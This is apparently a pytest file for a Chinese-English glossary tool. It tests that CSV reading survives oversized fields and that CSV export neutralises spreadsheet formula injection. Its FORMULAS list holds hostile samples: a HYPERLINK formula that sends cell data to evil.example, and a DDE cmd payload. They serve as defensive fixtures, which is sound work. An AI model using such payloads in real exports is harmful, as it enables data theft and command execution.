"""Hostile CSV glossaries: oversized fields and spreadsheet formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from duizhao.cli import main
from duizhao.core.glossary.files import load_glossary, read_glossary, save_glossary
from duizhao.core.glossary.formats import csvfile
from duizhao.core.glossary.formats.common import make_entry


def test_a_huge_field_skips_only_its_own_line(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    # 131,072 characters is the csv module's field limit; past it the reader used to stop.
    huge = "x" * 200_000
    source = tmp_path / "huge.csv"
    source.write_text("traditional,simplified,english\n"
                      "普京,普京,Putin\n"
                      f"長,长,{huge}\n"
                      "北京,北京,Beijing\n"
                      f"巨,巨,{huge}\n"
                      "上海,上海,Shanghai\n", encoding="utf-8")
    result = read_glossary(source)
    assert [entry.english for entry in result.entries] == ["Putin", "Beijing", "Shanghai"]
    assert [problem.line for problem in result.problems] == [3, 5]

    out = tmp_path / "out.csv"
    assert main(["glossary", "convert", "--accept-partial", str(source), str(out)]) == 0
    err = capsys.readouterr().err
    assert "line 3" in err and "line 5" in err and "Traceback" not in err
    assert [entry.english for entry in load_glossary(out)] == ["Putin", "Beijing", "Shanghai"]


def test_a_huge_quoted_field_over_several_lines_is_one_problem(tmp_path: Path) -> None:
    huge = "y\n" * 100_000
    source = tmp_path / "multi.csv"
    source.write_text(f'traditional,simplified,english\n普京,普京,Putin\n長,长,"{huge}"\n'
                      '北京,北京,Beijing\n', encoding="utf-8")
    result = read_glossary(source)
    assert [entry.english for entry in result.entries] == ["Putin", "Beijing"]
    assert len(result.problems) == 1 and result.problems[0].line == 3


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)",
            "=cmd|' /C calc'!A0"]


def test_exported_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
    entries = [make_entry("普京", "普京", english=formula, note=formula) for formula in FORMULAS]
    data = csvfile.dump(entries)
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(" in data.decode("utf-8")


@pytest.mark.parametrize("value", [
    "-", "--", "-ism", "+86", "@name", "=", "'", "''", "'=x", "''-y", "'-'", "don't",
    "a=b", "'quoted'", "'@", "' =x",
])
def test_protected_cells_read_back_exactly(tmp_path: Path, value: str) -> None:
    entry = make_entry(f"{value}普京", "普京", pinyin=value, english=value, category=value,
                       note=value)
    path = tmp_path / "round.csv"
    save_glossary([entry], path)
    assert load_glossary(path).entries == (entry,)


def test_another_tools_protected_cells_are_read_as_text(tmp_path: Path) -> None:
    path = tmp_path / "sheet.csv"
    path.write_text("traditional,simplified,english\n普京,普京,'=1+1\n", encoding="utf-8")
    assert load_glossary(path)[0].english == "=1+1"
